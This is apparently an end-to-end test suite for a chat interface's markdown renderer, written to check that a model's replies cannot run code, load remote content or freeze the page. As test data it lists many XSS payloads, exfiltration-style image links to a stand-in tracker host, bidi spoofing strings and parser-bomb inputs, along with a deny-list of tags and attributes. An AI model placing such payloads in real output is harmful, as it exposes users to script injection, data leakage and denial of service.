// A model that means harm, or was talked into it: nothing it writes runs, nothing leaves the page, and the page stays usable.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { until } from "../system/support/process.ts";
import type { Chat } from "./support/chat.ts";
import { expectExact } from "./support/exact.ts";
import { type Device, useScene } from "./support/scene.ts";
import { cutUp, speech } from "./support/speaker.ts";

const scene = useScene({ raw: true });
let device: Device;
let chat: Chat;

beforeEach(async () => {
  device = await scene.device();
  chat = await device.open();
});

const run = "top.pwned=1;alert(1)";
const away = "http://tracker.test/?stolen";
const texts: [string, string][] = [
  ["scripts", `<script>${run}</script>\n\n<SCRIPT SRC=${away}></SCRIPT>\n\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n\nx<script>${run}</script>`],
  ["event handlers", `<img src=x onerror="${run}">\n\n<body onload=${run}>\n\n<details open ontoggle=${run}>\n\n<input autofocus onfocus=${run}>\n\n<b onmouseover=${run}>x</b>`],
  ["addresses that are programs", `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](&#106;avascript:${run}) [d](java\tscript:${run}) [e](\u0001javascript:${run}) [f](vbscript:x) <javascript:${run}>\n\n[g]: javascript:${run}\n[g] ![h](javascript:${run})`],
  ["addresses that are documents", `[a](data:text/html,<script>${run}</script>) [b](blob:http://x) [c](file:///etc/passwd) ![d](data:image/svg+xml,<svg/onload=${run}>) <data:text/html;base64,PHNjcmlwdD4=>`],
  ["remote images", `![pixel](${away}) ![](//tracker.test/p.gif) <img src="${away}"> <img srcset="${away} 2x"> [![in a link](${away})](${away})\n\n![ref]\n\n[ref]: ${away}`],
  ["things that load by themselves", `<link rel=stylesheet href=${away}> <link rel=prefetch href=${away}> <meta http-equiv=refresh content="0;url=${away}"> <base href=${away}> <style>@import "${away}"; body{background:url(${away})}</style> <video src=${away} autoplay></video> <audio src=${away}></audio> <object data=${away}></object> <embed src=${away}>`],
  ["frames and forms", `<iframe src="${away}"></iframe> <iframe srcdoc="<script>${run}</script>"></iframe> <form action="${away}"><input name=password><button>Sign in</button></form> <isindex action=${away}> <button formaction=javascript:${run}>x</button>`],
  ["SVG and MathML", `<svg onload=${run}><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a><image href="${away}"/><use href="data:image/svg+xml,x#x"/></svg> <math href="javascript:${run}">x</math>\n\n\`\`\`svg\n<svg onload=${run}>\n\`\`\``],
  ["formulas that link and load", `$\\href{javascript:${run}}{x}$ $$\\url{javascript:${run}}$$ $\\includegraphics{${away}}$ $\\htmlData{x=y}{z}$ $\\htmlStyle{background:url(${away})}{z}$ $\\htmlClass{fixed inset-0}{z}$ $\\html@mathml{<script>${run}</script>}{x}$`],
  ["names that are properties", `# __proto__\n\n[constructor][__proto__] [toString]\n\n[__proto__]: ${away}\n\n\`\`\`constructor\nx\n\`\`\`\n\n\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`" onmouseover=${run} x="\nx\n\`\`\``],
  ["letters that turn texts round", `\u202E)moc.live//:ptth(]knab ruoY[\u202C [https://bank.test\u202E](https://evil.test) \u2066\u2066\u2066\u2066 \u202Btxt.exe \u061C\n\n\`\`\`js\nif (admin\u202E \u2066) { // check\u2069 \u2066\n\`\`\`\n\n${"\u202E".repeat(500)}end`],
  ["letters that pile up", `Z${"\u0337\u0322\u034A".repeat(2000)}algo ${"\u200B".repeat(5000)}|${"\uFEFF".repeat(1000)}| \uFFF9a\uFFFAb\uFFFB \u{E0041}\u{E0042}`],
  ["controls", "a\u0001\u0007\u001B[31mred\u001B[0m\u0008\u007F\u0085 \r\n \r x \u2028\u2029 end"],
];

const bombs: [string, string][] = [
  ["quotes in quotes", `${">".repeat(20_000)} deep`],
  ["lists in lists", Array.from({ length: 800 }, (_, n) => `${"  ".repeat(n)}- ${n}`).join("\n")],
  ["stars", "*a **b ".repeat(10_000)],
  ["unclosed brackets", "[".repeat(50_000)],
  ["unclosed links", "[a](".repeat(20_000)],
  ["images in images", `${"![".repeat(10_000)}x${"](y)".repeat(10_000)}`],
  ["backticks of every length", Array.from({ length: 600 }, (_, n) => "`".repeat(n + 1)).join(" ")],
  ["open tags", "<a ".repeat(30_000)],
  ["open comments", "<!--".repeat(20_000)],
  ["references", `${Array.from({ length: 5_000 }, (_, n) => `[r${n}]: http://x.test/${n}`).join("\n")}\n\n${"[r1] ".repeat(10_000)}`],
  ["a table of a thousand columns", `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${`${"|b".repeat(1000)}|\n`.repeat(30)}`],
  ["rules and headings", "x\n---\n".repeat(5_000)],
  ["underscores", "_".repeat(60_000)],
  ["one long word", "w".repeat(200_000)],
  ["addresses", "http://a.test/".repeat(5_000)],
  ["entities", "&amp;&lt;&#x1F642;".repeat(10_000)],
  ["macros that double", "$$\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\def\\d{\\c\\c}\\def\\e{\\d\\d}\\def\\f{\\e\\e}\\def\\g{\\f\\f}\\def\\h{\\g\\g}\\def\\i{\\h\\h}\\def\\j{\\i\\i}\\def\\k{\\j\\j}\\k\\k\\k\\k$$"],
  ["macros that never end", "$$\\def\\a{\\a\\a}\\a$$ $\\newcommand{\\x}{\\x}\\x$"],
  ["formulas of great size", "$$\\rule{99999em}{99999em}$$ $$\\hspace{999999em}x\\raise{99999em}{y}$$ $$\\Huge{\\Huge{x}}$$"],
  ["formulas in formulas", `$$${"\\frac{1}{".repeat(2_000)}x${"}".repeat(2_000)}$$`],
  ["dollars", "$x$ ".repeat(3_000)],
  ["a code of many colours", `\`\`\`js\n${"const a = /x/g, b = `${1}`, c = \"s\"; // n\n".repeat(3_000)}\`\`\``],
];

const corpus = join(import.meta.dirname, "../../web/src/ui/markdown/hostile");
const files = readdirSync(corpus, { withFileTypes: true }).filter((one) => one.isFile() && one.name.endsWith(".md"));

/** The composer takes keys, wherever the focus was. */
async function expectUsable(): Promise<void> {
  await chat.composer.click();
  await chat.page.keyboard.type("still here");
  expect(await chat.composer.inputValue()).toBe("still here");
  await chat.composer.fill("");
}

/** What a text may never become. */
async function expectHarmless(): Promise<void> {
  const found = await chat.answer.evaluate((article) => {
    const wrong: string[] = [];
    const forbidden = "script,iframe,frame,object,embed,form,style,link,meta,base,video,audio,source,track,template,portal,applet,input:not([type=checkbox][disabled]),textarea,select";
    const content = article.querySelector("[data-text]")!;
    for (const node of content.querySelectorAll(forbidden)) wrong.push(node.outerHTML.slice(0, 100));
    for (const node of content.querySelectorAll("*")) {
      for (const { name, value } of node.attributes) {
        if (/^on/i.test(name) || name === "srcdoc" || name === "formaction") wrong.push(`${node.tagName} ${name}=${value}`);
        if (/^(href|src|action|xlink:href|data|poster)$/i.test(name) && !/^(https?:|mailto:|#)/i.test(value)) wrong.push(`${node.tagName} ${name}=${value.slice(0, 80)}`);
        if (name === "src" && !value.startsWith(`${location.origin}/`)) wrong.push(`${node.tagName} src=${value.slice(0, 80)}`);
      }
      if (node.tagName === "A" && !/noopener/.test(node.getAttribute("rel") ?? "")) wrong.push(`a link without noopener: ${node.outerHTML.slice(0, 100)}`);
      if (node.tagName === "A" && !/noreferrer/.test(node.getAttribute("rel") ?? "")) wrong.push(`a link without noreferrer: ${node.outerHTML.slice(0, 100)}`);
    }
    if ("pwned" in window) wrong.push("a script ran");
    return wrong;
  });
  expect(found).toEqual([]);
  expect(new URL(chat.page.url()).origin).toBe(scene.engine.url);
  expect(device.tabs).toHaveLength(1);
}

async function hear(pieces: string[]): Promise<string> {
  const { key, question } = speech(scene.raw, pieces);
  await chat.say(question);
  return key;
}

describe("nothing runs, nothing leaves", () => {
  test.each(texts)("%s", async (_, text) => {
    const key = await hear(cutUp(text, 9));
    expect(await expectExact(scene, chat, key)).toBe(text);
    await expectHarmless();
    await expectUsable();
  });

  test.each(files.map(({ name }) => name))("the corpus: %s", async (name) => {
    const text = readFileSync(join(corpus, name), "utf8");
    const key = await hear(cutUp(text, Math.max(9, Math.ceil(text.length / 400))));
    expect(await expectExact(scene, chat, key)).toBe(text.replaceAll("\0", "\uFFFD"));
    await expectHarmless();
    await expectUsable();
  });

  test("a question, a title and a system prompt are no better", async () => {
    const text = texts.map(([, one]) => one).join("\n\n");
    const conversation = await scene.engine.conversation({ title: `<img src=${away} onerror=${run}> \u202Ex`, system_prompt: text });
    const { key, question } = speech(scene.raw, ["fine"]);
    await scene.engine.post(conversation.id, question);
    await chat.page.goto(`${scene.engine.url}/c/${conversation.id}`);
    await chat.ready();
    await expectExact(scene, chat, key);
    const again = speech(scene.raw, ["fine"]);
    const asked = JSON.stringify({ mock: { key: again.key, script: again.key, note: text } });
    await chat.say(asked);
    await expectExact(scene, chat, again.key);
    expect(await chat.source(chat.questions.last())).toBe(asked);
    await expectUsable();
  });
});

describe("the page stays usable", () => {
  test.each(bombs)("%s", async (_, text) => {
    const key = await hear(cutUp(text, Math.ceil(text.length / 60)));
    await expectUsable();
    expect(await expectExact(scene, chat, key)).toBe(text);
    await expectHarmless();
    await expectUsable();
  });

  test("a code block of 1 MB", async () => {
    const line = "export const value = compute(\"text\", 42); // a line of code\n";
    const text = `\`\`\`ts\n${line.repeat(Math.ceil(1_048_576 / line.length))}\`\`\`\n`;
    const key = await hear(cutUp(text, 4_000));
    await expectUsable();
    expect(await expectExact(scene, chat, key)).toBe(text);
    await expectUsable();
  });
});
